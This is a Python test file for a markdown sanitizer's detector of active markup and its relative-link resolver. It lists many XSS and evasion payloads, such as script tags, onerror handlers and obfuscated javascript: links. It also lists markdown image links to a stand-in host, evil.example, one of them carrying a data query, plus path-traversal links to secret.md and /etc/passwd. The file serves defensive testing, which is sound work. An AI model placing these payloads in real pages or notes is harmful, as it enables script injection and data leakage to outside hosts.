"""Active markup: text that a markdown reader would run or load, and text that only mentions it."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from muniment.content.markdown import find_active_markup, find_relative_links, mask_code
from muniment.kernel.names import RelPath

ACTIVE = [
    *("<script>alert(1)</script>", "<script\n>alert(1)</script>", '<iframe src="a.html">'),
    *("<style>@import 'a'</style>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>"),
    *('<a title=">" onclick=x>b</a>', '<div b=c"d title=">" onclick=x>', "<b\nonmouseover\n=x>"),
    *("<xyz onfocus=x tabindex=1>", '<object data="a.swf">', "<form action=a.php>"),
    *('<meta http-equiv=refresh content="0;url=//evil.example">', '<base href="//evil.example/">'),
    *("<link rel=stylesheet href=a.css>", '<video autoplay src="a.mp4">'),
    *('<img src="https://evil.example/a.png">', "<IMG SRC=HTTP://EVIL.EXAMPLE/A.PNG>"),
    *("<img src=//evil.example/a.png>", '<img srcset="a.png, https://evil.example/b.png 2x">'),
    '<svg><image href="https://evil.example/a.png"/></svg>',
    '<svg><use xlink:href="https://evil.example/a.svg#x"/></svg>',
    *('<p style="background:url(//evil.example/a)">', r'<p style="background:\75rl(//evil.example/a)">'),
    *('<a href="javascript:alert(1)">b</a>', '<a href=" &#x6a;avascript&colon;alert(1)">b</a>'),
    *('<a href="java\nscript:alert(1)">b</a>', "![](https://evil.example/?q=data)"),
    *("![a](<https://evil.example/a.png>)", "![a](//evil.example/a.png)", r"![a](\\evil.example\a.png)"),
    *("![a [b] c](https://evil.example/a.png)", "![`]`](https://evil.example/a.png)"),
    *(r"![a \] b](https\://evil.example/a.png)", "![a\nb](\nhttps://evil.example/a.png)"),
    *("![a [b](c) d](https://evil.example/a.png)", "[![build](https://evil.example/a.svg)](docs/ci.md)"),
    *("![a](data:image/png;base64,AAAA)", "![a][b]\n\n[b]: https://evil.example/a.png"),
    *("![a]\n\n[a]: https://evil.example/a.png", "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))"),
    *("[a](&#106;avascript&#58;alert(1))", "[a]( <javascript:alert(1)>)", r"[a](javascript\:alert(1))"),
    *("[a]\n\n[a]: vbscript:x", "<javascript:alert(1)>", "[a](data:text/html;base64,AAAA)"),
    *("<!DOCTYPE a [<!ENTITY b SYSTEM 'c'>]>", "```dataviewjs\ndv.view('a')\n```"),
    '```mermaid\na["<img src=x onerror=alert(1)>"]\n```',
]

SCRIPT = "<script>alert(1)</script>"
NO_CODE = [
    *(f"```\n{SCRIPT}", f"```\n{SCRIPT}\n~~~", f"````\n{SCRIPT}\n```", f"> ```\n{SCRIPT}\n> ```"),
    *(f"- a\n  ```\n{SCRIPT}\n  ```", f"    ```\n{SCRIPT}\n    ```", f"``` a`b\n{SCRIPT}\n```"),
    *(
        f"<div>\n```\n{SCRIPT}\n```\n</div>",
        f"<!--\n```\n-->\n{SCRIPT}\n```",
        f"```\na\n ```b\n{SCRIPT}\n```",
    ),
    *(f"---\nname: |\n  a\n```\n---\n{SCRIPT}\n```\n", f"---\n```\n{'a: b' * 3000}\n---\n{SCRIPT}\n```\n"),
    *(f"\\`{SCRIPT}`", f"`a\n` {SCRIPT} `", f"`` {SCRIPT} `", f'<a title="`">{SCRIPT}`'),
    *(f'<a title="\n`">{SCRIPT}`', f"| a | b |\n|---|---|\n| ` | {SCRIPT} ` |\n| ` {SCRIPT} | ` |"),
    f"    {SCRIPT}",
]

INERT = [
    *("if a < b and c > d, then on = 1", "List<T>, Map<String, Object> and Result<T, E> are returned"),
    "git clone <source> <target> && cd <name>",
    "<b>bold</b><br><details><summary>more</summary>a</details><kbd>Esc</kbd>",
    "[a](https://example.com/?q=1) <https://example.com> https://example.com",
    *('<a href="https://example.com">a</a>', "[a][b] and [b]\n\n[b]: https://example.com"),
    *("<me@example.com>", "![diagram](img/a.png)", '<img src="img/a.png" alt="a" width=10>'),
    *("![a](a.png) and [b](https://example.com)", "![a][b]\n\n[b]: img/a.png"),
    *("Done! [a](https://example.com)", f"`{SCRIPT}` is refused", f"`` ` {SCRIPT} `` is refused"),
    f"`{SCRIPT}` and `<img src=x onerror=alert(1)>` and `![](https://evil.example)`",
    *(f"```html\n{SCRIPT}\n```\nand text", f"~~~\n{SCRIPT}\n~~~", f"```\n\n{SCRIPT}\n\n```"),
    *(f"```\n{SCRIPT}\n```\n\ntext\n\n````md\n{SCRIPT}\n````", f"---\nname: a\n---\n```\n{SCRIPT}\n```\n"),
    *("javascript: addresses are refused; data: see below; file: a.md", "<!-- toc -->"),
    *("a --> b <-- c <- d", "for (i=0;i<n;i++) once = 3;", "1 << 3 and a <<= 2"),
]


@pytest.mark.threat("T-MEM-02", control="active_markup")
def test_active_markup_is_found_despite_reader_differences():
    for text in ACTIVE:
        line = find_active_markup(text)
        assert line is not None, text
        assert find_active_markup(f"first line\n\n{text}\n") == line + 2, text
    assert [text for text in NO_CODE if find_active_markup(text) is None] == []


def test_inactive_markup_is_accepted():
    for text in INERT:
        assert find_active_markup(text) is None, text
        assert find_active_markup(f"text\n\n{text}\n\ntext `a` b\n") is None, text


PIECES = """```/|````/|~~~/|`|``|/|//|> |- |    |  |PIPE |\\|a| |<b>|<a title="|">|<div>/|<BACKdiv>/|<!--|-->|
PIPE---PIPE/|1. |```md/|\r/|*|[x|](y)"""
PIECES = PIECES.replace("|\n", "|").replace("/", "\n").replace("BACK", "/").split("|")
PIECES = [each.replace("PIPE", "|") for each in PIECES]


@given(st.lists(st.sampled_from(PIECES), max_size=14), st.lists(st.sampled_from(PIECES), max_size=10))
def test_script_rendered_by_markdown_it_is_found(before, after):
    text = f"{''.join(before)}{SCRIPT}{''.join(after)}"
    for reader in (MarkdownIt("commonmark"), MarkdownIt("commonmark").enable("table")):
        if "<script>" in reader.render(text):
            assert find_active_markup(text) is not None


@given(st.text(st.sampled_from("`~<>!\\|[]() \n\ta"), max_size=60))
def test_masked_code_keeps_line_count(text):
    assert mask_code(text).count("\n") == text.count("\n")


# -- paths of relative links --

LINKS = """[a](a.md) > topic/a.md ; ![a](img/a.png) > topic/img/a.png ; [a](../other/b.md#part) > other/b.md
[a](./b%20c.md?x=1) > topic/b c.md ; [a](<b.md>) [b](b.md 'title') > topic/b.md, topic/b.md
[a](../../secret.md) >  ; [a](/etc/passwd) [b](https://example.com/a.md) [c](mailto:a@b) [d](#part) [e](..) >
```NL[a](a.md)NL```NL    [b](b.md)NL >  ; - [a](a.md)NLNL      [code](b.md)NL > topic/a.md ; [a]() >"""


def test_relative_link_resolves_inside_scope_or_to_nothing():
    for row in LINKS.replace("\n", " ; ").split(" ; "):
        body, expected = row.replace("NL", "\n").split(" >")
        assert ", ".join(find_relative_links(body, RelPath("topic/entry.md"))) == expected.strip(), row
    assert list(find_relative_links("[a](b/c.md) [d](../e.md)", RelPath("entry.md"))) == ["b/c.md"]
